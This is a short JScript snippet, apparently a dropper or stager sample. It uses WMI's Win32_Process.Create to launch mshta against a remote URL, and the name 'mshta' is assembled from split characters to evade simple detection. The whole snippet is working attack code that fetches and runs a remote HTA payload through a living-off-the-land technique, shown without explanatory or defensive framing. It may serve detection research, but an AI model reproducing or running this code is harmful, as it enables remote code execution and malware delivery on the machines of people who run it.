var service = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2");
var startup = service.Get("Win32_ProcessStartup");
var create = service.Get("Win32_Process");
var command = ["m", "s", "h", "t", "a"].join("") + " http" + "://host.example/x";
create.Create(command, null, startup, 0);
